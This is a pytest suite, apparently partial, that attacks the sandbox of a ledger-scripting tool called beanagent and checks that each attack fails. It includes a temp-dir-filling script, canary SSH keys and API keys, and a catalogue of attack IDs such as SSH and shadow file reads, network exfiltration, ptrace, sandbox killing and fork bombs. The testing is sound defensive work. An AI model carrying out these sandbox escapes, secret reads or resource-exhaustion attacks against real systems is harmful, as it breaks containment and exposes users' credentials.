    "fill-tempdir-between-polls": "design limitation (sandbox.md): filling the temp dir with "
                                  "many files under the per-file limit is only caught by "
                                  "polling, after the fact",
}
ATTACKS.append(_a("fill-tempdir-between-polls", """
    total = 0
    for i in range(1024):  # 1 MiB files, up to 1 GiB: far under the per-file limit
        with open(f"s{i}", "wb") as f:
            f.write(b"\\1" * (1 << 20))
        total += 1
        if total % 32 == 0:
            print("WROTE_MIB", total, flush=True)
    """, seconds=30, peak=("WROTE_MIB", TEMP_QUOTA_MIB + 32)))
ATTACK_IDS = [a.id for a in ATTACKS]
BY_ID = {a.id: a for a in ATTACKS}


# ---- running one attack ------------------------------------------------------------------


@dataclasses.dataclass
class Run:
    """Everything a test asserts on, gathered right after the attack ran."""

    attack: Attack
    values: dict[str, str]
    canaries: tuple[str, ...]
    proc: subprocess.CompletedProcess[str] | None
    error: str | None
    seconds: float
    before: tuple[dict[str, str], dict[str, int]]
    after: tuple[dict[str, str], dict[str, int]]
    tcp: list[str]
    udp: list[str]
    unix: list[str]
    victim_alive: bool
    present: list[str]
    workdir: str | None
    workdir_left: bool
    lingering: list[int]
    follow: subprocess.CompletedProcess[str] | None


def _snapshot(root: Path) -> tuple[dict[str, str], dict[str, int]]:
    """Content hashes of every file, and the mode of every entry (chmod shows here)."""
    modes = {str(p.relative_to(root)): os.lstat(p).st_mode for p in users_files(root)}
    return tree_hashes(root), modes


def _drain_tcp(server: socket.socket) -> list[str]:
    got = []
    while True:
        try:
            conn, addr = server.accept()
        except BlockingIOError:
            return got
        conn.settimeout(0.2)
        with conn, contextlib.suppress(OSError):
            got.append(f"{addr}: {conn.recv(200)!r}")


def _drain_dgram(sock: socket.socket) -> list[str]:
    got = []
    while True:
        try:
            data, addr = sock.recvfrom(512)
        except BlockingIOError:
            return got
        got.append(f"{addr}: {data[:100]!r}")


@contextlib.contextmanager
def _listeners(root: Path, abstract: str) -> Iterator[dict[str, socket.socket]]:
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abst = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        tcp.bind(("127.0.0.1", 0))
        udp.bind(("127.0.0.1", 0))
        (root / "run").mkdir()
        unix.bind(str(root / "run" / "s.sock"))
        abst.bind("\0" + abstract)
        for s in (tcp, unix, abst):
            s.listen(16)
        for s in (tcp, udp, unix, abst):
            s.setblocking(False)
        yield {"tcp": tcp, "udp": udp, "unix": unix, "abstract": abst}
    finally:
        for s in (tcp, udp, unix, abst):
            s.close()


def _setup_tree(root: Path) -> tuple[dict[str, str], tuple[str, ...]]:
    books, home, outside = root / "books", root / "home", root / "outside"
    for d in (books, home / ".ssh", outside):
        d.mkdir(parents=True)
    shutil.copy(E2E / "books.beancount", books / "books.beancount")
    (books / "beanagent.toml").write_text(f"step_timeout = {STEP_TIMEOUT}\n")
    (books / "ok.py").write_text("print('ok')\n")
    key = f"sk-ant-CANARY-{secrets.token_hex(12)}"
    ssh = f"SSH-KEY-CANARY-{secrets.token_hex(12)}"
    listed = f"HOME-LISTING-CANARY-{secrets.token_hex(12)}"
    (home / ".ssh" / "id_ed25519").write_text(
        f"-----BEGIN OPENSSH PRIVATE KEY-----\n{ssh}\n-----END OPENSSH PRIVATE KEY-----\n")
    (home / ".ssh" / "id_ed25519").chmod(0o600)
    (home / ".bashrc").write_text("# the user's shell setup\n")
    (home / listed).write_text("x\n")
    (outside / "keep.txt").write_text("must stay as it is\n")
    values = {"books": str(books), "ledger": str(books / "books.beancount"),
              "home": str(home), "outside": str(outside),
              "ssh_key": str(home / ".ssh" / "id_ed25519"), "site": SITE_PACKAGES,
              "tok": secrets.token_hex(6), "unix_path": str(root / "run" / "s.sock"),
              "abstract": f"beanagent-attack-{secrets.token_hex(6)}", "raw_txn": RAW_TXN,
              "inject": INJECT, "key": key}
    return values, (key, ssh, listed)


def _processes_in(workdir: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                if os.readlink(entry / "cwd").startswith(workdir):
                    found.append(int(entry.name))
    return found


def _execute(attack: Attack, root: Path) -> Run:
    values, canaries = _setup_tree(root)
    books = Path(values["books"])
    env = {"ANTHROPIC_API_KEY": values.pop("key"), "HOME": values["home"],
           # the load cache and its key beside the tree, not in it (it is snapshotted)
           "BEANAGENT_CACHE_DIR": f"{root}.cache", "XDG_STATE_HOME": f"{root}.state"}
    if WITHOUT:
        env["BEANAGENT_SANDBOX_WITHOUT"] = WITHOUT
    victim = subprocess.Popen(["sleep", "300"], start_new_session=True)
    try:
        with _listeners(root, values["abstract"]) as socks:
            values["tcp_port"] = str(socks["tcp"].getsockname()[1])
            values["udp_port"] = str(socks["udp"].getsockname()[1])
            values["victim"] = str(victim.pid)
            source = Template(PRELUDE + attack.script).substitute(values)
            (books / "attack.py").write_text(source)
            before = _snapshot(root)
            start = time.monotonic()
            proc, error = None, None
            try:
                proc = run_cli("run", "books.beancount", "attack.py", "--yes", "--json",
                               *WEAK_FLAGS, cwd=books, env=env, timeout=90)
            except subprocess.TimeoutExpired as exc:
                error = f"beanagent did not finish within {exc.timeout} s"
            seconds = time.monotonic() - start
            time.sleep(0.2)  # give a stray late writer the chance to show itself
            after = _snapshot(root)
            tcp = _drain_tcp(socks["tcp"])
            udp = _drain_dgram(socks["udp"])
            unix = _drain_tcp(socks["unix"]) + _drain_tcp(socks["abstract"])
        victim_alive = victim.poll() is None
        present = [p for p in (Template(t).substitute(values) for t in attack.expect.absent)
                   if os.path.lexists(p)]
        match = re.search(r"WORKDIR=(\S+)", proc.stderr if proc else "")
        workdir = match.group(1) if match else None
        follow = run_cli("run", "books.beancount", "ok.py", "--yes", "--json", *WEAK_FLAGS,
                         cwd=books, env=env, timeout=60)
        return Run(attack, values, canaries, proc, error, seconds, before, after, tcp, udp,
                   unix, victim_alive, present, workdir,
                   bool(workdir and os.path.lexists(workdir)),
                   _processes_in(workdir) if workdir else [], follow)
    finally:
        victim.kill()
        victim.wait()
        for template in attack.expect.absent:  # an attack that got through: undo it
            path = Template(template).substitute(values)
            if path.startswith(("/dev/shm/", SITE_PACKAGES)) and os.path.isfile(path):
                os.remove(path)


class Runs:
    """Runs the selected attacks a few at a time, in the background, and hands each test
    its own result. Every attack has its own tree, listeners, canaries and victim."""

    def __init__(self, ids: list[str], factory: pytest.TempPathFactory) -> None:
        self._pool = ThreadPoolExecutor(WORKERS, thread_name_prefix="attack")
        # The slow ones (timeouts, floods, bombs) first, so they overlap the rest.
        slow = [i for i in ids if BY_ID[i].expect.seconds < 40 or "bomb" in i]
        order = slow + [i for i in ids if i not in slow]
        self._futures: dict[str, Future[Run]] = {
            i: self._pool.submit(_execute, BY_ID[i], factory.mktemp(i[:24])) for i in order}

    def get(self, attack_id: str) -> Run:
        return self._futures[attack_id].result(timeout=600)

    def close(self) -> None:
        self._pool.shutdown(wait=True, cancel_futures=True)


@pytest.fixture(scope="module")
def runs(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
         ) -> Iterator[Runs]:
    ids = [item.callspec.params["attack"].id for item in request.session.items
           if getattr(item, "callspec", None) is not None
           and isinstance(item.callspec.params.get("attack"), Attack)]
    # The worker threads read os.environ (run_cli copies it) while each test's autouse
    # fixture sets its own values: make every key those fixtures touch exist already, so
    # they only ever change values and never remove a key a thread is about to read.
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("BEANCOUNT_DISABLE_LOAD_CACHE", "1")
        mp.setenv("HOME", os.environ.get("HOME", "/nonexistent"))
        for key in list(os.environ):
            if key.startswith(("ANTHROPIC_", "OPENAI_", "BEANAGENT_")):
                mp.delenv(key)
        for key in ("BEANAGENT_CACHE_DIR", "XDG_STATE_HOME"):  # each run sets its own
            mp.setenv(key, os.environ.get(key, "/nonexistent"))
        pool = Runs(ids, tmp_path_factory)
        try:
            yield pool
        finally:
            pool.close()


# ---- the checks -----------------------------------------------------------------------


def _host_tracebacks(text: str) -> list[str]:
    """Tracebacks from beanagent itself: a block with a frame in the package and none in
    the script (a script's error may chain standard-library frames; those are fine)."""
    package = str(Path(beanagent.__file__).parent) + os.sep
    blocks = text.split("Traceback (most recent call last):")[1:]
    return [b[:600] for b in blocks
            if package in b.split("\nbeanagent:")[0] and 'File "<script>"' not in b]


def _params() -> list[Any]:
    out = []
    for a in ATTACKS:
        marks = [pytest.mark.xfail(strict=False, reason=XFAIL[a.id])] if a.id in XFAIL else []
        out.append(pytest.param(a, id=a.id, marks=marks))
    return out


@pytest.mark.parametrize("attack", _params())
def test_attack_fails(attack: Attack, runs: Runs) -> None:
    run = runs.get(attack.id)
    assert run.error is None, run.error
    proc = run.proc
    assert proc is not None
    out = proc.stdout + proc.stderr
    tail = f"\n--- exit {proc.returncode}, stderr ---\n{proc.stderr[-3000:]}"
    # The script really ran in the sandbox (a refusal, e.g. strict mode on a machine
    # without Landlock or seccomp, proves nothing about the attack).
    assert run.workdir is not None, "the script never ran" + tail

    # (1) what the script tried did not happen
    assert "ATTACK-SUCCEEDED" not in out, "the attack reported success" + tail
    assert "SPAWNED" not in out, "a spawned program ran" + tail
    assert run.tcp == [], f"TCP connections reached the test's listener: {run.tcp}" + tail
    assert run.udp == [], f"UDP datagrams reached the test's socket: {run.udp}" + tail
    assert run.unix == [], f"UNIX socket connections: {run.unix}" + tail
    assert run.victim_alive, "the victim process was killed" + tail
    assert run.present == [], f"left behind: {run.present}" + tail
    assert "sandbox process died" not in proc.stderr, "the sandbox server was killed" + tail
    assert run.lingering == [], f"processes left running in the temp dir: {run.lingering}"
    assert not run.workdir_left, f"the step's temp dir {run.workdir} was not removed"

    # (2) every file byte-identical, modes included, nothing new
    hashes_before, modes_before = run.before
    hashes_after, modes_after = run.after
    assert hashes_after == hashes_before, "files changed, appeared or vanished" + tail
    assert modes_after == modes_before, "modes changed" + tail
    if proc.stdout.strip():
        assert report(proc)["committed"] is False

    # (3) no canary in the output
    for canary in run.canaries:
        assert canary not in out, f"canary {canary[:20]}... reached the output" + tail

    # (4) a documented exit code, no traceback from beanagent itself, in time
    assert proc.returncode in DOCUMENTED_CODES, tail
    assert _host_tracebacks(proc.stderr) == [], "beanagent's own traceback" + tail
    assert run.seconds < attack.expect.seconds, f"took {run.seconds:.1f} s" + tail
    if attack.expect.says:
        assert re.search(attack.expect.says, proc.stderr, re.S), \
            f"expected /{attack.expect.says}/ in stderr" + tail

    # (5) the next plain script still runs
    follow = run.follow
    assert follow is not None and follow.returncode == 0, follow and follow.stderr[-2000:]
    assert "ok" in follow.stderr.splitlines() and report(follow)["committed"] is False

    if attack.expect.peak:  # how far the script got before a cap stopped it
        label, bound = attack.expect.peak
        reached = max((int(n) for n in re.findall(label + r" (\d+)", proc.stderr)), default=0)
        assert reached <= bound, f"{label} reached {reached}, over the cap {bound}" + tail


def test_catalogue_is_covered() -> None:
    """At least one attack per item of the catalogue, and enough of them."""
    ids = " ".join(ATTACK_IDS)
    for item in ("write-outside", "bashrc", "pth", "ledger-open", "truncate", "remove",
                 "rename", "chmod", "hardlink", "symlink", "dev-shm", "picklecache",
                 "inherited-fd", "ssh", "shadow", "own-environ", "parent-environ", "mem",
                 "list-home", "tcp", "urllib", "udp", "dns", "unix-pathname", "abstract",
                 "ctypes-socket", "subprocess", "os-system", "execv", "posix-spawn", "pty",
                 "multiprocessing", "os-fork", "fork-exec", "ctypes-libc", "obfuscated",
                 "subclasses", "frame-walk", "audit", "kill-sandbox", "ptrace", "tiocsti",
                 "busy-loop", "sleep-forever", "memory-bomb-at-once", "memory-bomb-gradual",
                 "fork-bomb", "thread-bomb", "stdout-flood", "huge-file", "many-medium",
                 "fd-exhaustion", "deep-recursion", "c-stack", "after-step", "atexit",
                 "pickle", "nan", "set-in", "object-in", "forged", "deep-nesting", "bigint",
                 "plugin", "include", "option", "10k-postings", "1mb-narration"):
        assert item in ids, item
    assert len(ATTACKS) >= 55 and len(set(a.id for a in ATTACKS)) == len(ATTACKS)


def test_canaries_would_be_caught(tmp_path: Path) -> None:
    """The checks can fail: a script that prints what the host may legitimately show it
    (its own temp dir) passes, while the same machinery sees a planted canary and a
    changed file."""
    root = tmp_path / "t"
    values, canaries = _setup_tree(root)
    before = _snapshot(root)
    os.chmod(values["ledger"], 0o600)
    assert _snapshot(root)[1] != before[1]
    host = Path(beanagent.__file__).parent / "workflow.py"
    assert _host_tracebacks(f'Traceback (most recent call last):\n  File "{host}", line 1')
    assert not _host_tracebacks('Traceback (most recent call last):\n  File "/usr/lib/x.py"\n'
                                'Traceback (most recent call last):\n  File "<script>", x')
    assert not _host_tracebacks('Traceback (most recent call last):\n  File "<script>", x')
    assert all(stat.S_ISREG(m) or stat.S_ISDIR(m) for m in before[1].values())
    assert len(set(canaries)) == 3
